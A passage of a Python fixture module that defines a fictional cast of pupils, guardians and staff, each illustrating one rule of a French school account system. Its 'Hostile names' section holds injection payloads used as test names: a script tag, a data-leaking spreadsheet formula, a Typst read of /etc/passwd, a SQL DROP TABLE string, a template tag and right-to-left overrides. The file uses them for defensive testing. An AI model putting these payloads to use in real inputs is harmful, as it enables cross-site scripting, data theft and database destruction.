"""The cast: named people, each of whom exists for one rule and says which. Shared by demo, tests, screenshots and docs.

Birth dates and exits move with the school year and the day, so that the town always lives today::

    people = cast_on(date(2026, 11, 23))
    people.samira.email, people.ines.birth_on, people.claire.subject
"""
# size: one person after another, nearly no logic

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from functools import lru_cache

from preau.demo.rows import (
    ASCENDANT,
    CARER,
    CHILD_WELFARE,
    CONTACT,
    DECEASED,
    FATHER,
    FOSTER_CARER,
    LEGAL,
    MOTHER,
    ONESELF,
    TUTOR,
    AddressRow,
    DivisionRow,
    Family,
    GuardianRow,
    LinkRow,
    MandateRow,
    PupilRow,
    SchoolRow,
    StaffRow,
    ine_rnie,
)
from preau.identity.directory import school_year

SCHOOL = SchoolRow(uai="0991234D", name="ÉLISE-DEROCHE", head_name="VASSEUR CLAIRE")
OTHER_SCHOOL = SchoolRow(
    uai="0990002P",
    name="JEANNE-BARRET",
    address="8 QUAI DE L'ORME",
    postcode="99310",
    town="SAINT-AUBIN-LE-CLOS",
    phone="0199005678",
    email="ce.0990002p@example.org",
    head_name="LEGRAND PASCALE",
)
RECTORATE = SchoolRow(uai="0999900Y", name="RECTORAT", kind="RECT", town="LE PRÉ-SOUS-BOIS", phone="0199009900")
# The base's own numbers below these belong to the cast; the crowd counts from there (crowd.py).
FIRST_PUPIL, FIRST_GUARDIAN, FIRST_ADDRESS = 500_001, 700_001, 300_001

MEF_6E, MEF_5E, MEF_4E, MEF_3E = "10010012110", "10110001110", "10210001110", "10310019110"
DIVISIONS = (
    DivisionRow("6E A", "SIXIEME A", (MEF_6E, "1001001211U")),
    DivisionRow("5E B", "CINQUIEME B", (MEF_5E,)),
    DivisionRow("4E C", "QUATRIEME C", (MEF_4E,)),
    DivisionRow("3E A", "TROISIEME A", (MEF_3E,)),
    DivisionRow("3E C", "TROISIEME C", (MEF_3E,)),
)
_MEF_OF = {division.code: division.mefs[0] for division in DIVISIONS}


@dataclass(frozen=True, slots=True)
class StaffMember:
    """Someone who comes in by the staff portal: what the portal says of them, and their line in STS if there is one.

    `fredurneresp` is the portal's claim naming the schools one is responsible for: seven fields separated by ``$``.
    """

    subject: str
    given_name: str
    family_name: str
    email: str
    who: str
    function: str
    school: SchoolRow
    role: str
    rule: str
    fredurneresp: tuple[str, ...] = ()
    row: StaffRow | None = None

    @property
    def name(self) -> str:
        """Given name and family name, as one greets them."""
        return f"{self.given_name} {self.family_name}"

    @property
    def claims(self) -> dict[str, str | list[str]]:
        """What the staff portal says of them, in the academic portals' vocabulary (FrEdu…)."""
        uai = self.school.uai
        nature = "RECT$802" if self.school is RECTORATE else "CLG$340"
        return {
            "sub": self.subject,
            "given_name": self.given_name,
            "family_name": self.family_name,
            "email": self.email,
            "rne": uai,
            "title": self.function,
            "typensi": "G",
            "codaca": self.school.academy_code,
            "FrEduFonctAdm": self.function,
            "FrEduRne": [f"{uai}$UAJ$PU${self.function}${uai}$T3${nature}"],
            # "X" is the portal's way of saying "nothing".
            "FrEduRneResp": list(self.fredurneresp) or ["X"],
            "FrEduResDel": ["X"],
        }


def demo_mobile(number: int) -> str:
    """A mobile of the block ARCEP keeps for fiction, 06 39 98 xx xx: the `number`-th, from 0 to 9999."""
    return f"+3363998{number:04d}"


def demo_landline(number: int) -> str:
    """A landline of the block ARCEP keeps for fiction, 01 99 00 xx xx."""
    return f"+3319900{number:04d}"


@lru_cache(maxsize=8)
def cast_on(day: date, year: int | None = None) -> "Cast":
    """The cast as it stands on `day`, in the school year of `day` unless `year` says otherwise."""
    return Cast(day, school_year.of(day) if year is None else year)


class Cast:
    """Everybody, by first name: rows of the base. Who answers for whom is in the pupils' links."""

    def __init__(self, on: date, year: int) -> None:  # size: people in a row, one each
        self.on = on
        self.year = year
        self._pupils: list[PupilRow] = []
        self._guardians: list[GuardianRow] = []

        # Addresses --------------------------------------------------------------------------------------------------
        tilleuls = self._address("12 RUE DES TILLEULS", "BÂT. C, ESC. 2")
        allee = self._address("3 ALLÉE DES CŒURS-VAILLANTS")
        gare = self._address("41 AVENUE DE LA GARE")
        puits = self._address("7 IMPASSE DU PUITS")
        overseas = AddressRow(
            FIRST_ADDRESS + 4, ("18 CHEMIN DES FILAOS",), postcode="97410", town="SAINT-PIERRE", country="FRANCE"
        )
        london = AddressRow(
            FIRST_ADDRESS + 5,
            ("3 ORCHARD ROW",),
            postcode="",
            town="",
            foreign_town="LONDON N1",
            country_code="132",
            country="ROYAUME-UNI",
        )
        foyer = self._address("2 PLACE DU MARCHÉ", key=FIRST_ADDRESS + 6)

        # A blended family -------------------------------------------------------------------------------------------
        self.samira = self._guardian(
            "BELKACEM", "Samira", "MME", mobile=17, email="samira.belkacem@example.org", address=tilleuls,
            rule="Guardian of two children of one school: one account, both children, both birth dates asked.",
        )  # fmt: skip
        self.karim = self._guardian(
            "BELKACEM", "Karim", "M.", mobile=18, email="karim.belkacem@example.org", address=gare,
            rule="Former husband, father of Inès only: never sees Samira's channels, nor that Hugo exists.",
        )  # fmt: skip
        self.julien = self._guardian(
            "FAURE", "Julien", "M.", mobile=19, email="julien.faure@example.org", address=tilleuls,
            rule="Father of Hugo only, lives with Samira: a shared roof gives him no right over Inès.",
        )  # fmt: skip
        self.ines = self._pupil(
            "BELKACEM", "Inès", "5E B", (12, 3, 14), sex="2",
            links=(self._link(self.samira, MOTHER), self._link(self.karim, FATHER, lives_with=False)),
            rule="The elder of a blended family, in the form tutor's division.",
        )  # fmt: skip
        self.hugo = self._pupil(
            "FAURE", "Hugo", "6E A", (11, 9, 2), sex="1",
            links=(self._link(self.samira, MOTHER), self._link(self.julien, FATHER)),
            rule="Half-brother of Inès: another surname, one mother in common.",
        )  # fmt: skip

        # Sharing ----------------------------------------------------------------------------------------------------
        self.aissata = self._guardian(
            "COULIBALY", "Aïssata", "MME", mobile=30, email="aissata.coulibaly@example.org", address=gare,
            rule="Shares one mobile with Drissa: the number alone names nobody.",
        )  # fmt: skip
        self.drissa = self._guardian(
            "COULIBALY", "Drissa", "M.", mobile=30, email="drissa.coulibaly@example.org", address=gare,
            rule="Shares one mobile with Aïssata: a code sent there proves a household, not a person.",
        )  # fmt: skip
        self.adama = self._pupil(
            "COULIBALY", "Adama", "5E B", (12, 11, 3), sex="1",
            links=(self._link(self.aissata, MOTHER), self._link(self.drissa, FATHER)),
            rule="The pupil with the sheet: activates with username, temporary password and birth date.",
        )  # fmt: skip
        self.celine = self._guardian(
            "GARNIER", "Céline", "MME", mobile=32, email="famille.garnier@example.org", address=puits,
            rule="Shares one e-mail address with Thomas: no secret is ever sent there, paper instead.",
        )  # fmt: skip
        self.thomas = self._guardian(
            "GARNIER", "Thomas", "M.", mobile=33, email="famille.garnier@example.org", address=puits,
            rule="Shares one e-mail address with Céline: an invitation may go there, a secret may not.",
        )  # fmt: skip
        self.zoe = self._pupil(
            "GARNIER", "Zoé", "5E B", (12, 6, 21), sex="2",
            links=(self._link(self.celine, MOTHER), self._link(self.thomas, FATHER)),
            rule="Child of two guardians who share one address.",
        )  # fmt: skip

        # Homonyms ---------------------------------------------------------------------------------------------------
        self.sophie_tilleuls = self._guardian(
            "MARTIN", "Sophie", "MME", mobile=40, email="sophie.martin@example.org", address=tilleuls,
            rule="First of two « Sophie MARTIN » of one base: never merged by name.",
        )  # fmt: skip
        self.sophie_gare = self._guardian(
            "MARTIN", "Sophie", "MME", mobile=41, email="s.martin@example.org", address=gare,
            rule="Second « Sophie MARTIN »: another username, another account.",
        )  # fmt: skip
        self.lea_6e = self._pupil(
            "MARTIN", "Léa", "6E A", (11, 1, 8), sex="2", links=(self._link(self.sophie_tilleuls, MOTHER),),
            rule="First of two « Léa MARTIN »: told apart by INE, birth date and username digits.",
        )  # fmt: skip
        self.lea_3e = self._pupil(
            "MARTIN", "Léa", "3E A", (14, 5, 30), sex="2", links=(self._link(self.sophie_gare, MOTHER),),
            rule="Second « Léa MARTIN »: searching one shows both, and acts on one.",
        )  # fmt: skip

        # Hard to reach ----------------------------------------------------------------------------------------------
        self.odette = self._guardian(
            "LE GOFF", "Odette", "MME", address=allee,
            rule="Neither mobile nor e-mail: only the letter reaches her.",
        )  # fmt: skip
        self.malo = self._pupil(
            "LE GOFF", "Malo", "6E A", (11, 7, 19), sex="1", links=(self._link(self.odette, TUTOR),),
            rule="Child under a tutor whom only paper reaches.",
        )  # fmt: skip
        self.marie_josee = self._guardian(
            "HOARAU", "Marie-Josée", "MME", phone="+262692123456", email="mj.hoarau@example.org", address=overseas,
            rule="Overseas mobile: a good number that is not metropolitan, never refused for it.",
        )  # fmt: skip
        self.kenzo = self._pupil(
            "HOARAU", "Kenzo", "4E C", (13, 2, 11), sex="1", links=(self._link(self.marie_josee, MOTHER),),
            rule="Child of a guardian who lives overseas.",
        )  # fmt: skip
        self.sylvie = self._guardian(
            "PERRIN", "Sylvie", "MME", phone="+447700900123", email="sylvie.duval@example.org", address=london,
            used_name="DUVAL",
            rule="Usage name and an address abroad: the desk shows DUVAL, both names are found.",
        )  # fmt: skip
        self.noe = self._pupil(
            "PERRIN", "Noé", "4E C", (13, 10, 5), sex="1", used_name="DUVAL",
            links=(self._link(self.sylvie, MOTHER),),
            rule="A pupil with a usage name: the username keeps the name used when the account opened.",
        )  # fmt: skip
        self.paul = self._guardian(
            "CAZENEUVE", "Paul", "M.", phone="06 12 34 5", address=puits,
            rule="His letter is more than three months old: it no longer opens the door. His number is not one.",
        )  # fmt: skip
        self.elise = self._pupil(
            "CAZENEUVE", "Élise", "3E C", (14, 12, 1), sex="2", links=(self._link(self.paul, FATHER),),
            rule="Child of the guardian whose letter expired.",
        )  # fmt: skip
        self.nadege = self._guardian(
            "MABIALA", "Nadège", "MME", mobile=45, email="nadege.mabiala@example.org", address=gare,
            rule="Blocked account: refused at the door, told who can help.",
        )  # fmt: skip
        self.divine = self._pupil(
            "MABIALA", "Divine", "3E C", (14, 8, 16), sex="2", links=(self._link(self.nadege, MOTHER),),
            rule="Child of the guardian whose account is blocked.",
        )  # fmt: skip

        # Not legal guardians ----------------------------------------------------------------------------------------
        self.welfare = self._guardian(
            "AIDE SOCIALE A L'ENFANCE", "SERVICE", address=foyer,
            rule="A body, kinship 51: holds the legal link, never notified by the ordinary action.",
        )  # fmt: skip
        self.brigitte = self._guardian(
            "POULAIN", "Brigitte", "MME", mobile=50, email="brigitte.poulain@example.org", address=allee,
            rule="Foster carer, level 2 (en charge): no account.",
        )  # fmt: skip
        self.yvonne = self._guardian(
            "MOREAU", "Yvonne", "MME", mobile=51, address=puits,
            rule="Grandmother, level 3 (contact): no account.",
        )  # fmt: skip
        self.lina = self._pupil(
            "MOREAU", "Lina", "5E B", (12, 4, 9), sex="2",
            links=(
                self._link(self.welfare, CHILD_WELFARE, lives_with=False),
                self._link(self.brigitte, FOSTER_CARER, level=CARER),
                self._link(self.yvonne, ASCENDANT, level=CONTACT, lives_with=False),
            ),
            rule="In care: a body, a foster carer and a grandmother, and nobody to write to automatically.",
        )  # fmt: skip

        # One human, several roles; twins ----------------------------------------------------------------------------
        self.tidiane_himself = self._guardian(
            "SOW", "Tidiane", "M.", mobile=55, email="tidiane.sow@example.org", address=foyer,
            rule="Kinship 70: the adult pupil himself, one human and one sign-in.",
        )  # fmt: skip
        self.tidiane = self._pupil(
            "SOW", "Tidiane", "3E A", (18, 9, 1), sex="1", mobile=55, email="tidiane.sow@example.org",
            links=(self._link(self.tidiane_himself, ONESELF),),
            rule="An adult pupil who is his own legal guardian.",
        )  # fmt: skip
        self.lan = self._guardian(
            "NGUYEN", "Lan Anh", "MME", mobile=57, email="lananh.nguyen@example.org", address=gare,
            rule="Mother of twins: their birth date may be typed once or twice.",
        )  # fmt: skip
        self.mai = self._pupil(
            "NGUYEN", "Mai", "6E A", (11, 2, 28), sex="2", links=(self._link(self.lan, MOTHER),),
            rule="Twin: same birth date and surname as Minh.",
        )  # fmt: skip
        self.minh = self._pupil(
            "NGUYEN", "Minh", "6E A", (11, 2, 28), sex="1", links=(self._link(self.lan, MOTHER),),
            rule="Twin: told from Mai by given name and INE.",
        )  # fmt: skip

        # Incomplete records -----------------------------------------------------------------------------------------
        self.olena = self._guardian(
            "KOVALENKO", "Olena", "MME", mobile=60, email="olena.kovalenko@example.org", address=allee,
            rule="Her younger child has no birth date in the base: she is sent to the school's counter.",
        )  # fmt: skip
        self.kateryna = self._pupil(
            "KOVALENKO", "Kateryna", "4E C", (13, 8, 24), sex="2", has_ine=False, country="155",
            links=(self._link(self.olena, MOTHER),),
            rule="New arrival without INE: imported all the same.",
        )  # fmt: skip
        self.oleksiy = self._pupil(
            "KOVALENKO", "Oleksiy", "6E A", None, sex="1", country="155", links=(self._link(self.olena, MOTHER),),
            rule="Without birth date: cannot activate alone, and neither can his guardian.",
        )  # fmt: skip
        self.agnieszka = self._guardian(
            "WIŚNIEWSKI", "Agnieszka", "MME", mobile=62, email="agnieszka.w@example.org", address=gare,
            rule="Ś is not in ISO-8859-15 and arrives as « ? »: reported, never repaired.",
        )  # fmt: skip
        self.lucja = self._pupil(
            "WIŚNIEWSKI", "Łucja", "3E A", (14, 3, 3), sex="2", links=(self._link(self.agnieszka, MOTHER),),
            rule="A name in which two letters arrive as « ? ».",
        )  # fmt: skip
        self.marc = self._guardian(
            "BOYER", "Marc", "M.", mobile=64, email="marc.boyer@example.org", address=puits,
            rule="His son has no division yet: no letter is lost for want of a class.",
        )  # fmt: skip
        self.basile = self._pupil(
            "BOYER", "Basile", "", (12, 1, 30), sex="1", mef=MEF_5E, links=(self._link(self.marc, FATHER),),
            rule="Active pupil without division.",
        )  # fmt: skip

        # Leaving ----------------------------------------------------------------------------------------------------
        self.estelle = self._guardian(
            "ROUSSEL", "Estelle", "MME", mobile=66, email="estelle.roussel@example.org", address=puits,
            rule="Her only child has left: no account is offered.",
        )  # fmt: skip
        self.theo = self._pupil(
            "ROUSSEL", "Théo", "", (13, 5, 4), sex="1", exit_reason="10",
            left_on=min(date(year, 9, 1), on - timedelta(days=10)), links=(self._link(self.estelle, MOTHER),),
            rule="A leaver: the exit date is past.",
        )  # fmt: skip
        self.farid = self._guardian(
            "HADDAD", "Farid", "M.", mobile=68, email="farid.haddad@example.org", address=gare,
            rule="His daughter leaves soon: he keeps his access until that day.",
        )  # fmt: skip
        self.amira = self._pupil(
            "HADDAD", "Amira", "4E C", (13, 7, 7), sex="2", left_on=on + timedelta(days=45), exit_reason="12",
            links=(self._link(self.farid, FATHER),),
            rule="A future leaver: active until the exit date.",
        )  # fmt: skip
        self.laure = self._guardian(
            "AUBRY", "Laure", "MME", mobile=69, email="laure.aubry@example.org", address=allee,
            rule="Bereaved: nothing is ever sent to her about Anatole.",
        )  # fmt: skip
        self.anatole = self._pupil(
            "AUBRY", "Anatole", "", (12, 10, 10), sex="1", left_on=on - timedelta(days=20), exit_reason=DECEASED,
            links=(self._link(self.laure, MOTHER),),
            rule="Exit reason 43: closed silently, no letter.",
        )  # fmt: skip

        # Hostile names ----------------------------------------------------------------------------------------------
        self.html = self._guardian(
            '<SCRIPT SRC="//EXAMPLE.ORG/X.JS"></SCRIPT>', "Robert<b>", "M.", mobile=70, email="robert.b@example.org",
            address=gare, rule="HTML in a name: shown as text on every page, mail and sheet.",
        )  # fmt: skip
        self.formula = self._guardian(
            '=HYPERLINK("http://example.org/?"&A1;"Cliquez")', "+33", "M.", mobile=71, address=gare,
            rule="A spreadsheet formula as a name: a roster never runs it.",
        )  # fmt: skip
        self.typst = self._guardian(
            '#read("/etc/passwd")', "#set page(width: 1pt) $x$ *_`", "MME", mobile=72, address=gare,
            rule="Typst markup as a name: printed as text on the letter.",
        )  # fmt: skip
        self.ana = self._pupil(
            "GIORIG\u202eNEVES", "Ana\u202e\u2066", "4E C", (13, 3, 17), sex="2",
            links=(self._link(self.html, FATHER), self._link(self.typst, MOTHER)),
            rule="Right-to-left override in a name: cannot reverse the rest of the line.",
        )  # fmt: skip
        self.bobby = self._pupil(
            "');DROP TABLE PUPIL;--", "Bobby & {{ 7*7 }}", "4E C", (13, 4, 1), sex="1",
            links=(self._link(self.formula, FATHER),),
            rule="SQL, an entity and a template tag as names: stored and shown as they are.",
        )  # fmt: skip

        # The transition ---------------------------------------------------------------------------------------------
        self.fatoumata = self._guardian(
            "DIARRA", "Fatoumata", "MME", mobile=74, email="fatoumata.diarra@example.org", address=allee,
            rule="Has an old account in ATEN: those credentials open the activation pages, once.",
        )  # fmt: skip
        self.issa = self._pupil(
            "DIARRA", "Issa", "6E A", (11, 10, 22), sex="1", links=(self._link(self.fatoumata, MOTHER),),
            rule="Child of the guardian who comes from ATEN.",
        )  # fmt: skip
        self.gael = self._guardian(
            "LE BIHAN", "Gaël", "M.", mobile=75, email="gael.lebihan@example.org", address=puits,
            rule="Has an old account in an ENT: another directory, another way of hashing, the same way in.",
        )  # fmt: skip
        self.enora = self._pupil(
            "LE BIHAN", "Enora", "4E C", (13, 1, 17), sex="2", links=(self._link(self.gael, FATHER),),
            rule="Child of the guardian who comes from an ENT.",
        )  # fmt: skip

        # Those who forget ---------------------------------------------------------------------------------------------
        self.elodie = self._guardian(
            "RENARD", "Élodie", "MME", mobile=76, email="elodie.renard@example.org", address=allee,
            rule="Forgot her username and her password: she proved an address and a mobile, each gives them back.",
        )  # fmt: skip
        self.mathieu = self._guardian(
            "RENARD", "Mathieu", "M.", mobile=77, email="mathieu.renard@example.org", address=allee,
            rule="Vouches for Jules, who forgot his password: he types the number that the boy's screen shows.",
        )  # fmt: skip
        self.jules = self._pupil(
            "RENARD", "Jules", "4E C", (13, 6, 12), sex="1", email="jules.renard@example.org",
            links=(self._link(self.elodie, MOTHER), self._link(self.mathieu, FATHER)),
            rule="A pupil who confirmed an address: it gives back his username, and his password.",
        )  # fmt: skip

        # One person, two records ------------------------------------------------------------------------------------
        self.leila = self._guardian(
            "BENHADDOU", "Leïla", "MME", mobile=78, email="leila.benhaddou@example.org", address=puits,
            rule="Written down twice by the school, a child each time: she adds the second child by proof.",
        )  # fmt: skip
        self.nour = self._pupil(
            "BENHADDOU", "Nour", "6E A", (11, 5, 17), sex="2", links=(self._link(self.leila, MOTHER),),
            rule="Child of the first record of a guardian who has two.",
        )  # fmt: skip
        self.leila_again = self._guardian(
            "BENHADDOU", "Leïla", "MME", mobile=78, email="leila.b@example.org", address=gare,
            rule="The second record of Leïla Benhaddou: the same names and mobile, another address.",
        )  # fmt: skip
        self.rayan = self._pupil(
            "BENHADDOU", "Rayan", "4E C", (13, 9, 30), sex="1", links=(self._link(self.leila_again, MOTHER),),
            rule="Child of the second record: missing from his mother's account until she adds him.",
        )  # fmt: skip

        # Those who mind their account -------------------------------------------------------------------------------
        self.celia = self._guardian(
            "FERREIRA", "Célia", "MME", mobile=80, email="celia.ferreira@example.org", address=gare,
            rule="Comes in with her mobile, then lets FranceConnect open the same account, and thinks better of it.",
        )  # fmt: skip
        self.hadrien = self._guardian(
            "LEMOINE", "Hadrien", "M.", mobile=81, email="hadrien.lemoine@example.org", address=gare,
            rule="Comes in with his mobile, changes number and password, and refuses a change he never asked for.",
        )  # fmt: skip
        self.lison = self._pupil(
            "FERREIRA LEMOINE", "Lison", "4E C", (13, 4, 23), sex="2",
            links=(self._link(self.celia, MOTHER), self._link(self.hadrien, FATHER)),
            rule="Bears the names of both her parents, neither of whom bears hers.",
        )  # fmt: skip

        # One person, two accounts in use ---------------------------------------------------------------------------
        self.solene = self._guardian(
            "TESSIER", "Solène", "MME", mobile=84, email="solene.tessier@example.org", address=allee,
            rule="Activated two accounts, a child in each: she merges them, which is announced and can be undone.",
        )  # fmt: skip
        self.mahe = self._pupil(
            "TESSIER", "Mahé", "6E A", (11, 8, 25), sex="1", links=(self._link(self.solene, MOTHER),),
            rule="Child of the first of two accounts of one person.",
        )  # fmt: skip
        self.solene_again = self._guardian(
            "TESSIER", "Solène", "MME", mobile=85, email="s.tessier@example.org", address=puits,
            rule="The second account of Solène Tessier: the same names, another address and another number.",
        )  # fmt: skip
        self.nino = self._pupil(
            "TESSIER", "Nino", "3E C", (14, 2, 6), sex="1", links=(self._link(self.solene_again, MOTHER),),
            rule="Child of the second of two accounts of one person.",
        )  # fmt: skip

        # Eighteen ---------------------------------------------------------------------------------------------------
        self.florence = self._guardian(
            "BAUDRY", "Florence", "MME", mobile=86, email="florence.baudry@example.org", address=gare,
            rule="Her son is eighteen: she keeps her access until he decides otherwise.",
        )  # fmt: skip
        self.maxence = self._pupil(
            "BAUDRY", "Maxence", "3E A", (18, 6, 3), sex="1", email="maxence.baudry@example.org",
            links=(self._link(self.florence, MOTHER),),
            rule="An adult pupil with a guardian: he may end her access, and give it back.",
        )  # fmt: skip

        # FranceConnect alone ------------------------------------------------------------------------------------------
        self.honorine = self._guardian(
            "PLANCHENAULT", "Honorine", "MME", mobile=82, email="honorine.planchenault@example.org", address=allee,
            rule="Changed number and address, kept no letter: FranceConnect and two birth dates open her account.",
        )  # fmt: skip
        self.evrard = self._guardian(
            "PLANCHENAULT", "Évrard", "M.", mobile=83, email="evrard.planchenault@example.org", address=puits,
            rule="Father of the same two: told that somebody came in beside him, he may undo it for 72 hours.",
        )  # fmt: skip
        self.ulysse = self._pupil(
            "PLANCHENAULT", "Ulysse", "6E A", (11, 4, 26), sex="1",
            links=(self._link(self.honorine, MOTHER), self._link(self.evrard, FATHER, lives_with=False)),
            rule="The younger of two whose birth dates, both of them, stand for a letter.",
        )  # fmt: skip
        self.violette = self._pupil(
            "PLANCHENAULT", "Violette", "4E C", (13, 5, 19), sex="2",
            links=(self._link(self.honorine, MOTHER), self._link(self.evrard, FATHER, lives_with=False)),
            rule="The elder of two whose birth dates, both of them, stand for a letter.",
        )  # fmt: skip

        # Those who use services -------------------------------------------------------------------------------------
        self.irene = self._guardian(
            "MARCHAL", "Irène", "MME", mobile=87, email="irene.marchal@example.org", address=allee,
            rule="Opens two services in one visit, by two protocols, and is out of both when she leaves one.",
        )  # fmt: skip
        self.timothee = self._pupil(
            "MARCHAL", "Timothée", "4E C", (13, 3, 9), sex="1", links=(self._link(self.irene, MOTHER),),
            rule="Opens the same services as his mother: each knows the two apart.",
        )  # fmt: skip

        # Other ways back in -----------------------------------------------------------------------------------------
        self.bastien = self._guardian(
            "AUCLAIR", "Bastien", "M.", mobile=90, email="bastien.auclair@example.org", address=puits,
            rule="Proved an address and a mobile, asks for a code as well: forgetting, he shows all that was agreed.",
        )  # fmt: skip
        self.romane = self._pupil(
            "AUCLAIR", "Romane", "6E A", (11, 6, 8), sex="2", links=(self._link(self.bastien, FATHER),),
            rule="Child of the guardian who comes back by his mobile.",
        )  # fmt: skip
        self.nolwenn = self._guardian(
            "GUILLOU", "Nolwenn", "MME", mobile=88, email="nolwenn.guillou@example.org", address=allee,
            rule="Changed number, kept her address: FranceConnect and a code by e-mail open her account.",
        )  # fmt: skip
        self.tess = self._pupil(
            "GUILLOU", "Tess", "4E C", (13, 2, 24), sex="2", links=(self._link(self.nolwenn, MOTHER),),
            rule="Child of the guardian whose number in the base is an old one.",
        )  # fmt: skip
        self.maryvonne = self._guardian(
            "PRIGENT", "Maryvonne", "MME", mobile=89, email="maryvonne.prigent@example.org", address=gare,
            rule="Somebody opens her account by FranceConnect alone: the school undoes it, then a change is refused.",
        )  # fmt: skip
        self.briac = self._pupil(
            "PRIGENT", "Briac", "6E A", (11, 10, 3), sex="1", links=(self._link(self.maryvonne, MOTHER),),
            rule="The younger of two whose mother's access is undone at the desk.",
        )  # fmt: skip
        self.azilis = self._pupil(
            "PRIGENT", "Azilis", "4E C", (13, 12, 12), sex="2", links=(self._link(self.maryvonne, MOTHER),),
            rule="The elder of two whose mother's access is undone at the desk.",
        )  # fmt: skip

        self.sandrine = self._guardian(
            "THIBAULT", "Sandrine", "MME", mobile=91, email="sandrine.thibault@example.org", address=puits,
            rule="Is asked before a service learns something, and takes her agreement back.",
        )  # fmt: skip
        self.elsa = self._pupil(
            "THIBAULT", "Elsa", "4E C", (13, 6, 21), sex="2", links=(self._link(self.sandrine, MOTHER),),
            rule="Her mother reads what the canteen would learn of her.",
        )  # fmt: skip
        self.ghislaine = self._guardian(
            "LACAZE", "Ghislaine", "MME", mobile=96, email="ghislaine.lacaze@example.org", address=allee,
            rule="Is asked by SAML before a service opens: says no, then yes, then takes her agreement back.",
        )  # fmt: skip
        self.anselme = self._pupil(
            "LACAZE", "Anselme", "6E A", (11, 12, 2), sex="1", links=(self._link(self.ghislaine, MOTHER),),
            rule="His mother enters a service that speaks SAML and asks first.",
        )  # fmt: skip
        self.gwenaelle = self._guardian(
            "CHASTAING", "Gwenaëlle", "MME", mobile=35, email="gwenaelle.chastaing@example.org", address=puits,
            rule="Tries the operator's service of test; others are not for her, or not for her school.",
        )  # fmt: skip
        self.ilan = self._pupil(
            "CHASTAING", "Ilan", "4E C", (13, 7, 26), sex="1", links=(self._link(self.gwenaelle, MOTHER),),
            rule="His mother reads what a service of test received.",
        )  # fmt: skip

        # Those who meet the rule that stops or helps -----------------------------------------------------------------
        self.ophelie = self._guardian(
            "VASSORT", "Ophélie", "MME", mobile=92, email="ophelie.vassort@example.org", address=allee,
            rule="Written down twice: one account is in use, she adds the child of the other with its letter.",
        )  # fmt: skip
        self.lou = self._pupil(
            "VASSORT", "Lou", "6E A", (11, 7, 13), sex="2", links=(self._link(self.ophelie, MOTHER),),
            rule="Child of the account in use.",
        )  # fmt: skip
        self.ophelie_again = self._guardian(
            "VASSORT", "Ophélie", "MME", mobile=93, email="o.vassort@example.org", address=puits,
            rule="The second record of Ophélie Vassort: its letter was never used, and adds its child to the first.",
        )  # fmt: skip
        self.sacha = self._pupil(
            "VASSORT", "Sacha", "4E C", (13, 11, 5), sex="1", links=(self._link(self.ophelie_again, MOTHER),),
            rule="Missing from his mother's account until she gives the letter about him.",
        )  # fmt: skip
        self.corentin = self._guardian(
            "LAVIGNE", "Corentin", "M.", mobile=94, email="corentin.lavigne@example.org", address=gare,
            rule="Proved a mobile and nothing more is asked of him: forgetting, one SMS gives the account back.",
        )  # fmt: skip
        self.eliott = self._pupil(
            "LAVIGNE", "Eliott", "6E A", (11, 12, 19), sex="1", links=(self._link(self.corentin, FATHER),),
            rule="Child of the guardian who comes back by one SMS.",
        )  # fmt: skip
        self.armelle = self._guardian(
            "DELCOURT", "Armelle", "MME", mobile=95, email="armelle.delcourt@example.org", address=allee,
            rule="Her son's file becomes protected: no guardian reads where he is, she neither.",
        )  # fmt: skip
        self.regis = self._guardian(
            "DELCOURT", "Régis", "M.", mobile=34, email="regis.delcourt@example.org", address=puits,
            rule="Nobody comes in alone beside a protected file: his mobile opens nothing, the school does.",
        )  # fmt: skip
        self.gabin = self._pupil(
            "DELCOURT", "Gabin", "4E C", (13, 8, 2), sex="1",
            links=(self._link(self.armelle, MOTHER), self._link(self.regis, FATHER, lives_with=False)),
            rule="The pupil whose file the head protects: he alone still reads his school.",
        )  # fmt: skip
        self.ludivine = self._guardian(
            "CARLIER", "Ludivine", "MME", mobile=36, email="ludivine.carlier@example.org", address=gare,
            rule="One of the two children written at her name is not hers: she says so on the way.",
        )  # fmt: skip
        self.margot = self._pupil(
            "CARLIER", "Margot", "6E A", (11, 3, 27), sex="2", links=(self._link(self.ludivine, MOTHER),),
            rule="Her mother knows her birth date.",
        )  # fmt: skip
        self.titouan = self._pupil(
            "CARLIER", "Titouan", "4E C", (13, 10, 14), sex="1", links=(self._link(self.ludivine, MOTHER),),
            rule="Written at the name of somebody who is not his guardian: the school settles it.",
        )  # fmt: skip

        # Staff ------------------------------------------------------------------------------------------------------
        self.staff = self._people_of_the_school(on, year)
        by_subject = {member.subject: member for member in self.staff}
        self.claire = by_subject["cvasseur"]
        self.rachid = by_subject["rbenali"]
        self.maiwenn = by_subject["mkervella"]
        self.etienne = by_subject["epoirier"]
        self.odile = by_subject["omarchand"]
        self.pascale = by_subject["plegrand"]
        self.nadia = by_subject["nfontaine"]
        self.yann = by_subject["ymorvan"]

    # What the cast offers -------------------------------------------------------------------------------------------
    @property
    def pupils(self) -> tuple[PupilRow, ...]:
        """All pupils of the cast, leavers included."""
        return tuple(self._pupils)

    @property
    def guardians(self) -> tuple[GuardianRow, ...]:
        """All persons linked to them: guardians, carers, contacts, a body."""
        return tuple(self._guardians)

    @property
    def family(self) -> Family:
        """The whole cast as one block of the base."""
        return Family(self.pupils, self.guardians)

    @property
    def staff_rows(self) -> tuple[StaffRow, ...]:
        """The staff of the demo school, as STS knows them; the secretary and other schools' staff are not in it."""
        return tuple(member.row for member in self.staff if member.row is not None)

    def everyone(self) -> Iterator[tuple[str, str]]:
        """(name, rule) of each member, for the documentation."""
        rows: list[PupilRow | GuardianRow] = [*self._pupils, *self._guardians]
        for row in rows:
            yield f"{row.first_name} {row.used_name or row.birth_name}", row.rule
        for member in self.staff:
            yield member.name, member.rule

    # How people are written -----------------------------------------------------------------------------------------
    def _address(self, *lines: str, key: int | None = None) -> AddressRow:
        self._addresses = getattr(self, "_addresses", 0) + 1
        return AddressRow(key or FIRST_ADDRESS + self._addresses - 1, lines)

    def _guardian(
        self, birth_name: str, first_name: str, title: str = "", *, rule: str, mobile: int | None = None,
        phone: str = "", email: str = "", used_name: str = "", address: AddressRow | None = None,
    ) -> GuardianRow:  # fmt: skip
        row = GuardianRow(
            key=FIRST_GUARDIAN + len(self._guardians),
            birth_name=birth_name,
            first_name=first_name,
            title=title,
            used_name=used_name,
            mobile=phone if mobile is None else demo_mobile(mobile),
            email=email,
            accepts_sms=True if (phone or mobile is not None) else None,
            address=address,
            rule=rule,
        )
        self._guardians.append(row)
        return row

    def _pupil(
        self, birth_name: str, first_name: str, division: str, born: tuple[int, int, int] | None, *, rule: str,
